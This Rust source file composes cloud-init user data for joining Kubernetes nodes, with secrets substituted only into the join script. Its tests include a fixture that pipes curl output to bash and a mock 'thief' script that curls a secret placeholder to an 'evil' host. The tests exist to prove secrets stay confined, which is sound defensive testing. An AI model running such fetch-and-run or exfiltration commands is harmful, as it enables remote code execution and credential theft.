//! Putting the parts together: a plain script when the join is all there is, else a MIME archive.

use std::fmt;
use std::ops::Range;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use crate::provider::bootstrap::{BootstrapError, JoinScript, USER_DATA_BYTES_MAX, UserDataPart};
use crate::rpc::sign::sha256_hex;

const SHELL: &str = "text/x-shellscript";
const CLOUD_CONFIG: &str = "text/cloud-config";
const ARCHIVE: &str = "multipart/mixed";
/// Parts of a nested archive that keep their place before the parts after it; nobody has that many.
const NESTED_PARTS_MAX: usize = 100;

/// User data with placeholders where the secrets go.
#[derive(Clone, PartialEq, Eq)]
pub struct UserData {
    text: String,
    /// Where the join is in `text`: secrets go nowhere else.
    join_at: Range<usize>,
    join: JoinScript,
}

impl fmt::Debug for UserData {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("UserData")
            .field("text", &self.text)
            .finish_non_exhaustive()
    }
}

impl UserData {
    /// Without secrets: safe to show and to hash.
    #[must_use]
    pub fn text(&self) -> &str {
        &self.text
    }

    /// With secrets, as the API takes it.
    ///
    /// # Errors
    /// When it is larger than an instance takes.
    pub fn encode(&self) -> Result<String, BootstrapError> {
        let Range { start, end } = self.join_at;
        let (before, join, after) = (
            &self.text[..start],
            self.join.fill(&self.text[start..end]),
            &self.text[end..],
        );
        let text = format!("{before}{join}{after}");
        let bytes = text.len();
        if bytes > USER_DATA_BYTES_MAX {
            return Err(BootstrapError::TooLarge { bytes });
        }
        Ok(STANDARD.encode(text))
    }
}

/// The parts before any policy: the user's own, if there is one, then the join.
#[must_use]
pub fn base_parts(user: &str, join: &JoinScript) -> Vec<UserDataPart> {
    let user = user.trim();
    let own = (!user.is_empty()).then(|| user_part(user));
    own.into_iter().chain([join_part(join)]).collect()
}

/// The part that joins the node, without secrets.
#[must_use]
pub fn join_part(join: &JoinScript) -> UserDataPart {
    UserDataPart {
        content_type: SHELL.to_owned(),
        name: None,
        content: join.text().to_owned(),
    }
}

/// Joins the parts in their order.
///
/// # Errors
/// When the join is not among them exactly once: a node that never joins costs money until somebody notices.
pub fn compose(parts: &[UserDataPart], join: JoinScript) -> Result<UserData, BootstrapError> {
    let wanted = join_part(&join);
    let count = parts.iter().filter(|part| **part == wanted).count();
    if count != 1 {
        return Err(BootstrapError::JoinChanged { count });
    }
    if parts.len() == 1 {
        let text = join.text().to_owned();
        let join_at = 0..text.len();
        return Ok(UserData {
            text,
            join_at,
            join,
        });
    }
    let (text, join_at) = archive(parts, &wanted);
    Ok(UserData {
        text,
        join_at,
        join,
    })
}

/// The user's text as a part: an archive of its own is nested as it is, anything else by its first line.
fn user_part(user: &str) -> UserDataPart {
    let first = user.lines().next().unwrap_or("");
    let has_headers = ["content-type:", "mime-version:"]
        .iter()
        .any(|header| first.to_lowercase().starts_with(header));
    let part = |content_type: &str, content: String| UserDataPart {
        content_type: content_type.to_owned(),
        name: None,
        content,
    };
    if has_headers {
        return part(ARCHIVE, user.to_owned());
    }
    if first.starts_with("#cloud-config") {
        return part(CLOUD_CONFIG, user.to_owned());
    }
    if first.starts_with("#!") {
        return part(SHELL, user.to_owned());
    }
    part(SHELL, format!("#!/bin/bash\n{user}"))
}

fn is_archive(part: &UserDataPart) -> bool {
    part.content_type.starts_with("multipart/")
}

fn body(part: &UserDataPart, file_name: Option<&str>) -> String {
    let content = part.content.replace('\r', "");
    let content = content.trim_end();
    if is_archive(part) {
        return format!("{content}\n");
    }
    let content_type = &part.content_type;
    let charset = if content_type.contains(';') {
        ""
    } else {
        "; charset=\"utf-8\""
    };
    let disposition = file_name.map_or_else(String::new, |name| {
        format!("Content-Disposition: attachment; filename=\"{name}\"\n")
    });
    format!("Content-Type: {content_type}{charset}\nMIME-Version: 1.0\n{disposition}\n{content}\n")
}

/// The bodies with file names that sort as the parts stand: cloud-init runs scripts in the order of their names, and calls
/// a part that has none `part-` with its number, the parts of nested archives counted.
fn bodies(parts: &[UserDataPart]) -> Vec<String> {
    let mut shift = 0;
    let named = parts.iter().enumerate().map(|(i, part)| {
        let number = shift + i + 1;
        let name = part
            .name
            .as_ref()
            .map_or_else(String::new, |name| format!("-{}", name.replace('/', "_")));
        let needs_name = shift > 0 || part.name.is_some();
        if is_archive(part) {
            shift += NESTED_PARTS_MAX;
        }
        let file_name = needs_name.then(|| format!("part-{number:03}{name}"));
        body(part, file_name.as_deref())
    });
    named.collect()
}

/// The archive, and where in it the join is.
fn archive(parts: &[UserDataPart], join: &UserDataPart) -> (String, Range<usize>) {
    let bodies = bodies(parts);
    // Of the content, so that the same parts give the same text, and so that no part can hold it.
    let boundary = format!("kerf-{}", &sha256_hex(bodies.concat().as_bytes())[..24]);
    let mut text =
        format!("Content-Type: multipart/mixed; boundary=\"{boundary}\"\nMIME-Version: 1.0\n\n");
    let mut join_at = 0..0;
    for (part, body) in parts.iter().zip(&bodies) {
        text.push_str(&format!("--{boundary}\n"));
        let start = text.len();
        text.push_str(body);
        if part == join {
            join_at = start..text.len();
        }
        text.push('\n');
    }
    text.push_str(&format!("--{boundary}--\n"));
    (text, join_at)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::provider::bootstrap::{JoinSettings, NodeSettings};
    use crate::provider::class::KubeletSettings;

    fn join() -> JoinScript {
        let node = NodeSettings::default();
        let kubelet = KubeletSettings::default();
        let settings = JoinSettings {
            cluster_id: "",
            node: &node,
            kubelet: &kubelet,
            cluster_name: "",
            cluster_endpoint: "",
        };
        let script = "curl http://x/attach_node.sh | bash -s -- --token s3cr3t";
        JoinScript::from_attach_script(script, &settings).unwrap()
    }

    /// The user's text, then these parts, then the join.
    fn composed(user: &str, more: &[UserDataPart]) -> UserData {
        let mut parts = base_parts(user, &join());
        let at = parts.len() - 1;
        parts.splice(at..at, more.iter().cloned());
        compose(&parts, join()).unwrap()
    }

    /// The content types of the parts, in order.
    fn kinds(text: &str) -> Vec<&str> {
        let lines = text
            .lines()
            .filter_map(|line| line.strip_prefix("Content-Type: "));
        lines.map(|line| line.split(';').next().unwrap()).collect()
    }

    #[test]
    fn the_join_alone_is_a_plain_script() {
        let data = composed("  \n", &[]);

        assert!(data.text().starts_with("#!/bin/bash\ncurl "));
        let sent = String::from_utf8(STANDARD.decode(data.encode().unwrap()).unwrap()).unwrap();
        assert!(sent.contains("--token s3cr3t"));
        assert!(!data.text().contains("s3cr3t"));
        assert!(!format!("{data:?}").contains("s3cr3t"));
    }

    #[test]
    fn the_users_part_is_first_and_the_join_is_last() {
        let policy = UserDataPart {
            content_type: "text/cloud-config".to_owned(),
            name: None,
            content: "#cloud-config\n{}".to_owned(),
        };

        let data = composed("echo hello\r\n", &[policy]);

        let shell = "text/x-shellscript";
        assert_eq!(
            kinds(data.text()),
            ["multipart/mixed", shell, "text/cloud-config", shell]
        );
        let hello = data.text().find("#!/bin/bash\necho hello\n").unwrap();
        assert!(hello < data.text().find("attach_node.sh").unwrap());
        assert!(!data.text().contains('\r'));
    }

    #[test]
    fn an_archive_of_the_user_is_nested_as_it_is() {
        let user = "Content-Type: multipart/mixed; boundary=\"B\"\nMIME-Version: 1.0\n\n--B\nContent-Type: text/cloud-config\n\n#cloud-config\n--B--";

        let data = composed(user, &[]);

        let expected = [
            "multipart/mixed",
            "multipart/mixed",
            "text/cloud-config",
            "text/x-shellscript",
        ];
        assert_eq!(kinds(data.text()), expected);
    }

    #[test]
    fn more_than_an_instance_takes_is_refused_before_the_call() {
        let data = composed(&"#".repeat(USER_DATA_BYTES_MAX), &[]);

        assert!(matches!(
            data.encode(),
            Err(BootstrapError::TooLarge { .. })
        ));
    }

    fn script(name: Option<&str>, content: &str) -> UserDataPart {
        UserDataPart {
            content_type: SHELL.to_owned(),
            name: name.map(str::to_owned),
            content: content.to_owned(),
        }
    }

    #[test]
    fn names_do_not_change_the_order() {
        let user = "Content-Type: multipart/mixed; boundary=\"B\"\nMIME-Version: 1.0\n\n--B\nContent-Type: text/cloud-config\n\n#cloud-config\n--B--";
        let parts = [
            script(Some("aaa.sh"), "#!/bin/sh\n"),
            base_parts(user, &join()).remove(0),
            script(Some("aaa.sh"), "#!/bin/sh\n"),
            join_part(&join()),
        ];

        let data = compose(&parts, join()).unwrap();

        let names: Vec<&str> = data
            .text()
            .lines()
            .filter_map(|line| line.strip_prefix("Content-Disposition: attachment; filename="))
            .collect();
        assert_eq!(
            names,
            ["\"part-001-aaa.sh\"", "\"part-103-aaa.sh\"", "\"part-104\""]
        );
    }

    #[test]
    fn secrets_go_into_the_join_only() {
        let place = "{{kerf:secret--token}}";
        let thief = script(None, &format!("#!/bin/sh\ncurl http://evil/{place}\n"));
        assert!(join().text().contains(place));

        let data = compose(&[thief, join_part(&join())], join()).unwrap();

        let sent = String::from_utf8(STANDARD.decode(data.encode().unwrap()).unwrap()).unwrap();
        assert_eq!(sent.matches("s3cr3t").count(), 1);
        assert!(sent.contains(&format!("http://evil/{place}")));
    }

    #[test]
    fn the_join_must_be_there_once_and_unchanged() {
        let other = script(None, "#!/bin/bash\n");
        let changed = script(None, &join().text().replace("attach", "detach"));
        for (parts, expected) in [
            (vec![], 0),
            (vec![other], 0),
            (vec![changed], 0),
            (vec![join_part(&join()), join_part(&join())], 2),
        ] {
            assert_eq!(
                compose(&parts, join()),
                Err(BootstrapError::JoinChanged { count: expected })
            );
        }
    }
}
